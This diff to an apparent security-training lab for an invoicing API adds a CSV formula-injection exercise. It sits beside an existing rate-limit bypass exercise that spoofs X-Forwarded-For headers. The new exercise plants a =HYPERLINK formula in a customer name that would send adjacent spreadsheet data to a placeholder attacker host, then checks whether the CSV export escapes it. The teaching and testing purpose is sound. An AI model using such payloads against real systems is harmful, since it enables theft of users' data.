@@ -32,6 +32,8 @@ export interface Exercise {
   changesSeed?: boolean;
   /** Configuration both the lab and the demo start with for this exercise (shown on their command lines). */
   env?: Record<string, string>;
+  /** Needs the worker (the lab and the demo run one; the test builds one beside the API). */
+  worker?: boolean;
   /** Uses `$INTERNAL` (the internal listener) and `$OPERATOR` (the demo operator's id, printed by the lab and `npm start`). */
   internal?: boolean;
 }
@@ -252,5 +254,21 @@ export const EXERCISES: readonly Exercise[] = [
     commands: `for i in 1 2 3 4 5 6; do curl -s -o /dev/null -w '%{http_code}\\n' "$BASE/health/live" -H "x-forwarded-for: 203.0.113.$i"; done | sort | uniq -c | awk '{print $2 " x" $1}'`,
     lab: { shows: ['200 x6'], means: 'every request counts as another client: the anonymous budget of 3 reads a minute per address never runs out' },
     demo: { shows: ['200 x3', '429 x3'], means: 'X-Forwarded-For is ignored from a client that is not a trusted proxy: the budget of the real address runs out after 3' },
+  },
+  {
+    control: 'CSV-FORMULA',
+    follows: 'a customer name holding a spreadsheet formula is exported to CSV as a live formula',
+    worker: true,
+    commands: [
+      LOGIN,
+      'MEMBER=$(login member@acme-jakarta.example)',
+      `BODY=$(jq -nc --arg n "CSV-$RANDOM$RANDOM" '{number: $n, customer: {name: "=HYPERLINK(\\"https://attacker.example/?leak=\\"&D2,\\"Invoice details\\")"}, lines: [{description: "Consulting", quantity: 1, unitPriceMinor: 100000}]}')`,
+      `curl -s -o /dev/null -X POST "$BASE/v1/invoices" -H "authorization: Bearer $MEMBER" -H 'content-type: application/json' -d "$BODY" -w 'invoice %{http_code}\\n'`,
+      `EXPORT=$(curl -s -X POST "$BASE/v1/exports" -H "authorization: Bearer $MEMBER" -H 'content-type: application/json' -d '{"type":"invoices","format":"csv"}' | jq -r .id)`,
+      `for i in $(seq 1 60); do [ "$(curl -s "$BASE/v1/exports/$EXPORT" -H "authorization: Bearer $MEMBER" | jq -r .status)" = ready ] && break; sleep 1; done`,
+      `curl -s "$BASE/v1/exports/$EXPORT/content" -H "authorization: Bearer $MEMBER" | grep -o "\\"'\\?=HYPERLINK" | sort -u | sed 's/^/cell starts: /'`,
+    ].join('\n'),
+    lab: { shows: ['invoice 201', 'cell starts: "=HYPERLINK'], means: 'the cell is a live formula: opening the export in a spreadsheet offers a link that sends the row next to it to the attacker' },
+    demo: { shows: ['invoice 201', 'cell starts: "\'=HYPERLINK'], means: 'the cell is prefixed with a quote, so a spreadsheet shows the text instead of running it' },
   },
 ];
